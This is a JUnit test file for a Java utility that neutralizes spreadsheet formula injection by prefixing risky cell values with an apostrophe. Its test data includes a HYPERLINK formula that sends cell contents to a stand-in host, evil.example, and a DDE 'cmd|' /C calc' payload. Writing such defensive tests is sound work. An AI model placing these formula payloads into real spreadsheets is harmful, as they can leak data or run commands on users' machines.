package vn.giamsat.application.common;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

class SpreadsheetCellsTest {
    @Test
    void aTextASpreadsheetWouldRunGetsOneApostropheAndReadsBackAsItself() {
        String link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";
        assertThat(SpreadsheetCells.neutralize(link)).isEqualTo("'" + link);
        for (String formula : List.of(link, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
                "'=1", "''-x")) {
            assertThat(SpreadsheetCells.neutralize(formula)).as(formula).startsWith("'" + formula.charAt(0));
            assertThat(SpreadsheetCells.restore(SpreadsheetCells.neutralize(formula))).as(formula).isEqualTo(formula);
        }
    }

    @Test
    void otherTextIsWrittenAndReadAsItIs() {
        for (String text : List.of("", "Xã Phú Thịnh", "20364", "1.062", "'quoted", "'", "a=b", " =x")) {
            assertThat(SpreadsheetCells.neutralize(text)).as(text).isEqualTo(text);
            assertThat(SpreadsheetCells.restore(text)).as(text).isEqualTo(text);
        }
        assertThat(SpreadsheetCells.neutralize(null)).isNull();
        assertThat(SpreadsheetCells.restore(null)).isNull();
    }
}
